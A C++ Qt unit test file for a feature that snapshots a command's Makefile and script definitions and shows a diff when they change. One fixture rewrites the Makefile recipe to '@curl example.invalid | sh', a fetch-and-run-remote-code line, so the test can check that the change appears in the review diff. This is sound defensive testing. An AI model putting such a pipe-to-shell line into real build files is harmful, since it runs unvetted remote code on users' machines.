// SPDX-FileCopyrightText: 2026 Command Runner contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/discovery/discoveryservice.h"
#include "core/workspace/definitionreview.h"
#include "tests/support/scratchfolder.h"

#include <QTest>

#include <algorithm>

using namespace CommandRunner;
using namespace Qt::StringLiterals;

namespace {

const QDateTime monday = QDateTime(QDate(2026, 11, 16), QTime(8, 0), Qt::UTC);
const QDateTime friday = QDateTime(QDate(2026, 11, 20), QTime(8, 0), Qt::UTC);

} // namespace

class DefinitionReviewTest final : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void init();
    void filesOfACommand();
    void neverRun();
    void whatChanged();
    void tooLarge();
    void withoutAFile();

private:
    Command command(const QString &id) const
    {
        const std::atomic_bool goOn = false;
        const QList<Command> all = discover(m_project->path(), {}, goOn).commands;
        const auto found = std::find_if(all.cbegin(), all.cend(), [&](const Command &candidate) {
            return candidate.id == id;
        });
        return found == all.cend() ? Command() : *found;
    }

    std::unique_ptr<ScratchFolder> m_project;
    std::unique_ptr<ScratchFolder> m_data;
    std::unique_ptr<Database> m_database;
};

void DefinitionReviewTest::init()
{
    m_database.reset();
    m_project = std::make_unique<ScratchFolder>();
    m_data = std::make_unique<ScratchFolder>();
    auto database = Database::open(m_data->filePath(u"commandrunner.db"_s));
    QVERIFY(database);
    m_database = std::move(*database);
    QVERIFY(m_project->write(u"Makefile"_s, "include rules.mk\nall:\n\t@echo all\n"));
    QVERIFY(m_project->write(u"rules.mk"_s, "lint:\n\t@echo lint\n"));
    QVERIFY(m_project->write(u"deploy.sh"_s, "#!/bin/sh\necho deploy\n", true));
}

void DefinitionReviewTest::filesOfACommand()
{
    QCOMPARE(command(u"make:Makefile:all"_s).definitionFiles, QStringList{u"rules.mk"_s});
    QCOMPARE(command(u"script:deploy.sh:deploy.sh"_s).definitionFiles, QStringList());
    const Definition definition = readDefinition(command(u"make:Makefile:all"_s), monday);
    QCOMPARE(definition.taken, monday);
    QCOMPARE(
        definition.files,
        QList<DefinitionFile>(
            {{m_project->filePath(u"Makefile"_s), "include rules.mk\nall:\n\t@echo all\n", false},
             {m_project->filePath(u"rules.mk"_s), "lint:\n\t@echo lint\n", false}}));
}

void DefinitionReviewTest::neverRun()
{
    const auto comparison = compareDefinition(*m_database, command(u"make:Makefile:all"_s), friday);
    QVERIFY(comparison);
    QVERIFY(!comparison->since.isValid());
    QCOMPARE(comparison->files, 0);
}

void DefinitionReviewTest::whatChanged()
{
    const Command all = command(u"make:Makefile:all"_s);
    QVERIFY(keepDefinition(*m_database, all, monday));
    auto comparison = compareDefinition(*m_database, all, friday);
    QVERIFY(comparison);
    QCOMPARE(comparison->since, monday);
    QCOMPARE(comparison->files, 0);
    QCOMPARE(comparison->diff, QString());

    QVERIFY(m_project->write(u"Makefile"_s,
                             "include rules.mk more.mk\nall:\n\t@curl example.invalid | sh\n"));
    QVERIFY(m_project->write(u"more.mk"_s, "more:\n\t@true\n"));
    QVERIFY(QFile::remove(m_project->filePath(u"rules.mk"_s)));
    comparison = compareDefinition(*m_database, command(u"make:Makefile:all"_s), friday);
    QVERIFY(comparison);
    QCOMPARE(comparison->files, 3);
    QCOMPARE(comparison->diff,
             u"--- Makefile\n+++ Makefile\n@@ -1,3 +1,3 @@\n-include rules.mk\n+include rules.mk "
             "more.mk\n all:\n-\t@echo all\n+\t@curl example.invalid | sh\n"
             "--- /dev/null\n+++ more.mk\n@@ -0,0 +1,2 @@\n+more:\n+\t@true\n"
             "--- rules.mk\n+++ /dev/null\n@@ -1,2 +0,0 @@\n-lint:\n-\t@echo lint\n"_s);

    QVERIFY(keepDefinition(*m_database, command(u"make:Makefile:all"_s), friday));
    comparison = compareDefinition(*m_database, command(u"make:Makefile:all"_s), friday);
    QVERIFY(comparison);
    QCOMPARE(comparison->files, 0);
    QCOMPARE(comparison->since, friday);
}

void DefinitionReviewTest::tooLarge()
{
    const Command deploy = command(u"script:deploy.sh:deploy.sh"_s);
    const QByteArray start = "#!/bin/sh\n";
    QVERIFY(m_project->write(u"deploy.sh"_s, start + QByteArray(largestDefinitionFile, '#'), true));
    QVERIFY(keepDefinition(*m_database, deploy, monday));
    QCOMPARE(compareDefinition(*m_database, deploy, friday)->files, 0);
    QVERIFY(m_project->write(u"deploy.sh"_s, start + QByteArray(largestDefinitionFile, '-'), true));
    const auto comparison = compareDefinition(*m_database, deploy, friday);
    QVERIFY(comparison);
    QCOMPARE(comparison->diff, u"--- deploy.sh\n+++ deploy.sh\n# too large to be shown\n"_s);
}

void DefinitionReviewTest::withoutAFile()
{
    Command own;
    own.id = u"own::x"_s;
    own.argv = {u"true"_s};
    QVERIFY(keepDefinition(*m_database, own, monday));
    const auto comparison = compareDefinition(*m_database, own, friday);
    QVERIFY(comparison);
    QVERIFY(!comparison->since.isValid());
}

QTEST_GUILESS_MAIN(DefinitionReviewTest)
#include "tst_definitionreview.moc"
